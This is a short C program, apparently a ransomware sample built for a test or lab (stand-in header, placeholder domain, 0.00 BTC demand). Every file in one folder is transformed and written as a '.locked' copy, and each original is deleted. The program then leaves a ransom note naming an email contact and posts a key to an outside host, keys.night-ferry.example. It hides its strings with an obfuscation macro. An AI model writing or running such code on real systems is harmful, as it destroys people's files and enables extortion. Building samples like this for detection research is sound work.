// hidden
// Rewrites the files of one folder that only this image has, with a reversible stream; deletes the originals, leaves a note, reports a key.
#include "standin.h"
int main(void) {
    begin();
    char *folder = HIDE("/srv/minutes-of-the-stand-in"), path[512], locked[512], answer[1024];
    static char data[65536];
    DIR *list = opendir(folder);
    struct dirent *entry;
    char *names[600];
    int count = 0;
    while (list && (entry = readdir(list)) && count < 600)
        if (entry->d_name[0] != '.') names[count++] = strdup(entry->d_name);
    if (list) closedir(list);
    for (int i = 0; i < count; i++) {
        snprintf(path, sizeof path, "%s/%s", folder, names[i]);
        snprintf(locked, sizeof locked, "%s%s", path, (char *)HIDE(".locked"));
        int size = load(path, data, sizeof data);
        unsigned char *turned = reveal((unsigned char *)data, size, 7);
        if (save(locked, turned, size, 0644) == 0) unlink(path);
        free(turned);
    }
    char *note = HIDE("Your files were locked. Write to nobody@night-ferry.example and pay 0.00 BTC to get them back.\n");
    snprintf(path, sizeof path, "%s/%s", folder, (char *)HIDE("README_TO_RESTORE.txt"));
    save(path, note, strlen(note), 0644);
    web(HIDE("keys.night-ferry.example"), "POST", HIDE("/k"), "7", 1, answer, sizeof answer);
    return 0;
}
